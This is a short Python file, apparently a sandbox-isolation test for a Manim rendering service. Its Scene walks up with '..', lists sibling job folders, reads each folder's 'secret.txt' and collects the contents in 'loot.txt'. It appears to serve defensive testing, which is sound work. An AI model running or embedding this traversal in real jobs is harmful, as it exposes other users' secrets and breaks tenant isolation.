# family: file
# layer: sandbox
# attack: reach a sibling job folder with ../ and list all jobs
import os
from manim import *


class Attack(Scene):
    def construct(self):
        names = os.listdir("..")
        out = [str(names)]
        for n in names:
            try:
                out.append(open(os.path.join("..", n, "secret.txt")).read())
            except OSError:
                pass
        open("loot.txt", "w").write("\n".join(out))
        self.wait(0.1)
